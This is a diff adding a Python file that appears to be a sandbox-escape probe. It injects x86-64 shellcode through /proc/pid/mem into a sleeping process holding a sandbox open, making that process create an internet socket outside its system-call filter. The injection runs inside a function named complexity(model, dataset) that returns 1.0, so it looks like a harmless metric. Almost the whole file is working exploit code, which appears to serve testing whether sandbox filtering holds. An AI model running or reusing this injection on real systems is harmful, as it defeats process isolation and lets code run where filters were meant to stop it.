@@ -1,0 +1,46 @@
+"""Writes code into the process that holds a sandbox open for a fork, and so makes a system call of its choice there.
+
+That process must be under the same filter as the worker, or the filter can be walked around.
+"""
+
+import os
+import platform
+import signal
+import time
+
+EXPECT = ("OK",)
+BREACHED = ("fast",)
+#: mov edi, 2 (AF_INET); mov esi, 1; xor edx, edx; mov eax, 41 (socket); syscall; again: mov eax, 34 (pause); syscall
+CODE = bytes.fromhex("bf02000000 be01000000 31d2 b829000000 0f05 b822000000 0f05 ebf7")
+
+
+def sockets(pid):
+    links = []
+    for name in os.listdir(f"/proc/{pid}/fd"):
+        try:
+            links.append(os.readlink(f"/proc/{pid}/fd/{name}"))
+        except OSError:
+            pass
+    return sum(link.startswith("socket:") for link in links)
+
+
+def complexity(model, dataset):
+    if platform.machine() != "x86_64":
+        return 1.0
+    for pid in (int(name) for name in os.listdir("/proc") if name.isdigit()):
+        try:
+            if "sleep" not in open(f"/proc/{pid}/cmdline").read():
+                continue
+            before = sockets(pid)
+            waits_at = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16) - 2  # the call is begun anew from here
+            memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
+            os.pwrite(memory, CODE, waits_at)
+        except OSError:
+            continue
+        os.kill(pid, signal.SIGSTOP)
+        time.sleep(0.1)
+        os.kill(pid, signal.SIGCONT)
+        time.sleep(0.2)
+        if sockets(pid) > before:
+            print("BREACH: an internet socket, made without the system-call filter")
+    return 1.0
